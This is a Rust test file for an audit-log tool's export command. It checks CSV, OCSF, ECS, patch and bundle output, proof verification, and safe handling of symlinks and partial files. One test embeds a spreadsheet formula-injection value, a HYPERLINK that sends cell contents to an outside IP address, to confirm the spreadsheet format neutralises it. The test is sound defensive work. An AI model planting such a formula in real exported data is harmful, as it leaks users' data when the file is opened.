//! Records for other tools, and for an auditor.

use serde_json::{Value, json};

use super::place::{Place, Ran, change, edit, sealtrail};
use super::small_disk::SmallDisk;

fn answered(ran: Ran) -> String {
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{ran:?}");
    ran.stdout
}

fn place() -> Place {
    let place = Place::new();
    let policy = r#"{"id":"p","version":"1","default":"keep","context_default":"keep",
        "rules":[{"select":"$.email","action":"seal","group":"contact"}],"secrets":false}"#;
    std::fs::write(place.path("policy.json"), policy).unwrap();
    assert_eq!(place.append(format!("{}\n{}\n", change("q-1"), change("q-2")).as_bytes()).code, 0);
    place
}

fn events(place: &Place, format: &str) -> Vec<Value> {
    let text = answered(place.run("export", &["--format", format, "--correlation", "q-1"]));
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn each_form_says_what_the_record_says_and_opens_nothing() {
    let place = place();
    let export =
        |format: &str| answered(place.run("export", &["--format", format, "--action", "update"]));
    assert_eq!(export("lines").lines().collect::<Vec<_>>(), place.lines());
    let csv = export("csv");
    assert_eq!(csv.split_terminator("\r\n").count(), 1 + 4, "{csv}");
    assert!(csv.contains(",email,[sealed contact],[sealed contact],"), "{csv}");
    assert_eq!(export("rows").lines().count(), 4);

    let patch = &events(&place, "patch")[0];
    assert_eq!(
        patch["patch"],
        json!([
        {"op": "replace", "path": "/email", "value": "[sealed contact]"},
        {"op": "replace", "path": "/tier", "value": 2}])
    );
    assert_eq!((&patch["entity"]["id"], &patch["index"]), (&json!("3"), &json!(0)));

    let ocsf = &events(&place, "ocsf")[0];
    assert_eq!(
        (&ocsf["class_uid"], &ocsf["type_uid"], &ocsf["activity_id"]),
        (&json!(3004), &json!(300_403), &json!(3))
    );
    assert_eq!(ocsf["metadata"]["correlation_uid"], "q-1");
    assert_eq!(
        (&ocsf["entity"]["type"], &ocsf["unmapped"]["changes"][1]["new"]),
        (&json!("customer"), &json!(2))
    );
    assert!(ocsf["time"].is_i64() && ocsf.get("comment").is_none());

    let ecs = &events(&place, "ecs")[0];
    assert_eq!(
        (&ecs["event"]["action"], &ecs["event"]["type"]),
        (&json!("update"), &json!(["change"]))
    );
    assert_eq!(
        (&ecs["http"]["request"]["id"], &ecs["sealtrail"]["entity"]["id"]),
        (&json!("q-1"), &json!("3"))
    );
    assert!(!ecs.to_string().contains("st1."), "{ecs}");

    let out = place.path("rows.csv");
    let to = out.display().to_string();
    assert_eq!(
        answered(place.run("export", &["--format", "csv", "--action", "update", "--out", &to])),
        ""
    );
    assert_eq!(std::fs::read_to_string(&out).unwrap(), csv);
    std::fs::write(&out, "evidence").unwrap();
    let again = ["--format", "csv", "--action", "update", "--out", &to];
    place.run("export", &again).refused(2, "`--overwrite` puts the new one in its place");
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "evidence");
    assert_eq!(answered(place.run("export", &[&again[..], &["--overwrite"]].concat())), "");
    assert_eq!(std::fs::read_to_string(&out).unwrap(), csv);
    let folder = place.path("log").display().to_string();
    place
        .run("export", &["--format", "csv", "--overwrite", "--out", &folder])
        .refused(2, "is a folder");
    assert_eq!(place.run("shred", &["customer/3", "--reason", "r", "--actor", "dpo"]).code, 0);
    assert!(export("patch").contains("\"[erased]\"") && !export("patch").contains("[sealed"));
    place.run("export", &["--format", "xml"]).refused(2, "possible values");
    place.run("export", &["--format", "bundle"]).refused(2, "--out");
    place
        .run("export", &["--format", "csv", "--checkpoint", &to])
        .refused(2, "goes with `--format bundle`");
}

#[test]
fn a_spreadsheet_takes_nothing_for_a_formula_and_csv_keeps_every_value() {
    let place = place();
    let formula = "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"x\")";
    let change = json!({"entity": {"type": "product", "id": "7"}, "action": "create", "before": null,
        "after": {"note": formula, "phone": "+49 221 1", "temperature": -5, "title": "a = b"}});
    assert_eq!(place.append(change.to_string().as_bytes()).code, 0);
    let export = |form| answered(place.run("export", &["--format", form, "--type", "product"]));
    let quoted = formula.replace('"', "\"\"");
    let (exact, guarded) = (export("csv"), export("spreadsheet"));
    assert!(exact.contains(&format!(",\"{quoted}\",")) && exact.contains(",+49 221 1,"), "{exact}");
    assert!(guarded.contains(&format!(",\"'{quoted}\",")), "{guarded}");
    for cell in [",'+49 221 1,", ",-5,", ",a = b,"] {
        assert!(guarded.contains(cell), "{cell}: {guarded}");
    }
    let without = guarded.replace("'=", "=").replace("'+", "+");
    assert_eq!(without, exact);
}

#[test]
fn a_bundle_proves_its_records_and_the_erasure_without_the_log() {
    let place = place();
    assert_eq!(place.run("shred", &["customer/3", "--reason", "r", "--actor", "dpo"]).code, 0);
    let folder = place.path("bundle");
    let out = folder.display().to_string();
    let bundle = ["--format", "bundle", "--out", &out, "--type", "customer"];
    assert!(answered(place.run("export", &bundle)).starts_with("2 records and 1 erasure in "));
    std::fs::rename(place.path("log"), place.path("away")).unwrap();
    let check = || sealtrail(&["verify-proof", &out, "--vkey", &place.vkey]);
    assert!(
        answered(check())
            .starts_with("intact: 3 records are in the log of `shop.example/audit` of size 3")
    );
    place.run("export", &bundle).refused(6, "");

    let original = std::fs::read_to_string(folder.join("records.ndjson")).unwrap();
    edit(&folder.join("records.ndjson"), "\"new\":2", "\"new\":3");
    let changed = check();
    assert_eq!(changed.code, 11, "{changed:?}");
    assert!(changed.stdout.contains("record 0"), "{changed:?}");
    let lines: Vec<&str> = original.lines().collect();
    std::fs::write(folder.join("records.ndjson"), format!("{}\n{}\n", lines[1], lines[0])).unwrap();
    assert_eq!(check().code, 11);
    std::fs::write(folder.join("records.ndjson"), format!("{}\n", lines[0])).unwrap();
    check().refused(4, "record 1 is not in");
    std::fs::write(folder.join("records.ndjson"), original).unwrap();
    assert_eq!(check().code, 0);
    let other = Place::new();
    assert_eq!(sealtrail(&["verify-proof", &out, "--vkey", &other.vkey]).code, 22);
    std::fs::write(folder.join("manifest.json"), "{}").unwrap();
    check().refused(4, "manifest.json");
    sealtrail(&["verify-proof", &out, &out, "--vkey", &place.vkey])
        .refused(2, "the folder of a bundle");
}

/// Nothing comes into a bundle that was not proven for it, and nothing of another's is touched.
#[test]
fn a_bundle_takes_up_nothing_that_is_there() {
    let place = place();
    let (folder, part) = (place.path("bundle"), place.path("bundle.part"));
    let out = folder.display().to_string();
    let export = || place.run("export", &["--format", "bundle", "--out", &out]);
    // Of an export that was interrupted.
    std::fs::create_dir_all(part.join("proofs")).unwrap();
    let stale = part.join("proofs/77.tlog-proof");
    std::fs::write(&stale, "of another time").unwrap();
    export().refused(2, "bundle.part: expected nothing there; an export that was interrupted");
    assert!(stale.exists() && !folder.exists());
    // A link to somewhere else.
    let elsewhere = place.path("elsewhere");
    std::fs::rename(&part, &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &part).unwrap();
    export().refused(2, "expected nothing there");
    std::os::unix::fs::symlink(place.path("nowhere"), &folder).unwrap();
    export().refused(2, "expected a folder that is not there yet");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 1);
    for link in [&part, &folder] {
        std::fs::remove_file(link).unwrap();
    }
    assert!(answered(export()).starts_with("2 records and 0 erasures in "));
    assert!(!part.exists());
    assert_eq!(std::fs::read_dir(folder.join("proofs")).unwrap().count(), 2);
}

/// Nothing is written through what is there under the name of the file while it is not whole.
#[test]
fn an_export_to_a_file_takes_up_nothing_that_is_there() {
    let place = place();
    let (file, part) = (place.path("out.ndjson"), place.path("out.ndjson.part"));
    let out = file.display().to_string();
    let export =
        || place.run("export", &["--format", "lines", "--action", "update", "--out", &out]);
    let said = "out.ndjson.part: expected nothing there; an export that was interrupted";
    let precious = place.path("precious");
    std::fs::write(&precious, "mine").unwrap();
    for leads_to in [&precious, &place.path("nowhere")] {
        std::os::unix::fs::symlink(leads_to, &part).unwrap();
        export().refused(2, said);
        assert_eq!(std::fs::read_link(&part).unwrap(), *leads_to);
        std::fs::remove_file(&part).unwrap();
    }
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "mine");
    assert!(!place.path("nowhere").exists());
    // Of an export that was interrupted, or that another process is at.
    std::fs::write(&part, "of another time").unwrap();
    export().refused(2, said);
    assert_eq!(std::fs::read_to_string(&part).unwrap(), "of another time");
    assert!(!file.exists());
    std::fs::remove_file(&part).unwrap();
    assert_eq!(answered(export()), "");
    assert_eq!(std::fs::read_to_string(&file).unwrap().lines().count(), 2);
    assert!(!part.exists());
}

#[test]
fn an_export_that_finds_no_room_leaves_nothing() {
    let place = place();
    let lines: String = (0..20).map(|n| change(&format!("r-{n}")) + "\n").collect();
    assert_eq!(place.append(lines.as_bytes()).code, 0);
    std::fs::create_dir(place.path("small")).unwrap();
    let Some(_disk) = SmallDisk::under(&place, "small", "8k") else { return };
    for (form, named) in [("bundle", "small/out.part/"), ("lines", "small/out.part: ")] {
        let out = place.path("small/out").display().to_string();
        place.run("export", &["--format", form, "--out", &out]).refused(1, named);
        assert_eq!(std::fs::read_dir(place.path("small")).unwrap().count(), 0, "{form}");
    }
}

/// A pseudonym shows which values were equal, also when nobody can find out any more what they were.
#[test]
fn pseudonyms_of_a_shredded_key_are_erased_in_every_form_but_the_lines() {
    let place = Place::new();
    let policy = r#"{"id":"p","version":"1","default":"keep","context_default":"keep",
        "rules":[{"select":"$.tax","action":"pseudonym","group":"tax"}],"secrets":false}"#;
    std::fs::write(place.path("policy.json"), policy).unwrap();
    for id in ["1", "2"] {
        let change = json!({"entity": {"type": "customer", "id": id}, "action": "create", "before": null,
            "after": {"tax": ["DE-1"], "tier": 1}});
        assert_eq!(place.append(change.to_string().as_bytes()).code, 0);
    }
    let tag_of = |line: usize| {
        let line = &place.lines()[line];
        line[line.find("ps1.").unwrap()..][..26].to_owned()
    };
    let (gone, alive) = (tag_of(0), tag_of(1));
    assert_eq!(place.run("shred", &["customer/1", "--reason", "r"]).code, 0);
    for form in ["csv", "spreadsheet", "rows", "patch", "ocsf", "ecs"] {
        let text = place.run("export", &["--format", form]).stdout;
        assert!(!text.contains(&gone) && text.contains(&alive), "{form}: {text}");
        assert_eq!(text.matches("[erased]").count(), 1, "{form}: {text}");
    }
    let parquet = place.path("parquet").display().to_string();
    assert_eq!(place.run("export", &["--format", "parquet", "--out", &parquet]).code, 0);
    let bytes = std::fs::read(&parquet).unwrap();
    assert!(!bytes.windows(gone.len()).any(|part| part == gone.as_bytes()));
    let words = place.run("history", &["customer", "1"]).stdout;
    assert!(words.contains("[erased]") && !words.contains(&gone), "{words}");
    assert!(place.run("export", &["--format", "lines"]).stdout.contains(&gone));
}
